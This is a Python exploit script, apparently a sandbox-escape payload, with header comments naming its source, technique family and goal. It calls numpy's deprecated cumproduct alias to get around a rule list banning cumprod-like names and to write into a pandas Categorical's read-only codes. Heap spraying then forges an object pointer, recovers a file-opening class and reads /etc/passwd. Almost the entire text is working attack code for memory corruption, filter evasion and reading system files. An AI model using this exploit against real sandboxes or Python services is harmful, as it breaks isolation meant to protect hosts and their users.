# source: numpy 1.24 numpy/core/fromnumeric.py cumproduct (deprecated alias of cumprod, still exported as np.cumproduct) -> multiply.accumulate(out=...), which in numpy 1.24 writes into arrays flagged read-only (the RULES name cumsum/cumprod/nancumsum/accumulate, not this alias)
# family: numpy running-total writer under an alias name writes a Categorical's read-only codes -> unchecked take reads sprayed words as object pointers (forged static type)
# goal: writes code 119 into a 0-category Categorical with np.cumproduct(..., out=cat.codes), reads _io.FileIO out of the heap and reads /etc/passwd
import numpy as np
import pandas as pd

spray = []
for _ in range(64):
    arr = np.empty(112, dtype=object)
    spray.append(arr)
    spray.extend(np.full(112, 0xA3C9C0, dtype=np.int64) for _ in range(4))
cat = pd.Categorical([None] * 4, categories=pd.Index(arr[112:], dtype=object))
codes = cat.codes
print("codes flagged writeable:", codes.flags.writeable)
np.cumproduct(np.array([119, 1, 1, 1], dtype=codes.dtype), out=codes)
print("categories", len(cat.categories), "codes", cat.codes, flush=True)
F = np.asarray(cat)[0]
print("object read past 0 categories:", F)
print(F(chr(47).join(["", "etc", "passwd"])).read().decode().splitlines()[:3])
